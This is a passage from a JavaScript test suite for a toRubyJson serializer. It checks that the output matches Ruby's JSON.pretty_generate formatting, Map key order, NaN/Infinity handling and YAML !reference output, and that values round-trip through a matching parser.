  it('pretty-prints like JSON.pretty_generate with empty containers inline', () => {
    // ruby: JSON.pretty_generate({"a"=>[], "b"=>{}, "c"=>[1, {"d"=>nil}], "e"=>"x"}); `[]`/`{}` since json 2.8
    // (ruby/json PR #626, "pretty_generate: don't apply object_nl / array_nl for empty containers")
    const value = map([['a', []], ['b', map([])], ['c', [1, map([['d', null]])]], ['e', 'x']]);
    expect(toRubyJson(value, 2)).toBe('{\n  "a": [],\n  "b": {},\n  "c": [\n    1,\n    {\n      "d": null\n    }\n  ],\n  "e": "x"\n}');
    expect(toRubyJson(map([['a', map([['b', 1]])]]), 4)).toBe('{\n    "a": {\n        "b": 1\n    }\n}');
    expect(toRubyJson([], 2)).toBe('[]');
    expect(toRubyJson(map([]), 2)).toBe('{}');
    expect(toRubyJson('s', 2)).toBe('"s"');
    expect(toRubyJson([[]], 2)).toBe('[\n  []\n]');
  });

  it('keeps Map key order, including integer-like keys', () => {
    expect(toRubyJson(map([['2', 'x'], ['1', 'y']]))).toBe('{"2":"x","1":"y"}');
  });

  it('writes NaN and Infinity as allow_nan: true does', () => {
    // ruby: JSON.generate([0.0/0, 1.0/0, -1.0/0], allow_nan: true) => [NaN,Infinity,-Infinity]
    expect(toRubyJson([new RubyFloat(NaN), new RubyFloat(Infinity), new RubyFloat(-Infinity)])).toBe('[NaN,Infinity,-Infinity]');
  });

  it('writes a !reference as toPlain does', () => {
    expect(toRubyJson(new YamlReference(['.a', 'script']))).toBe('{"!reference":[".a","script"]}');
  });

  it('round-trips through parseRubyJson', () => {
    const value = map([['list', [1, new RubyFloat(2.5), 'x', null, false]], ['nested', map([['é', '😀']])]]);
    expect(parseRubyJson(toRubyJson(value, 2))).toEqual({ ok: true, value });
  });
});
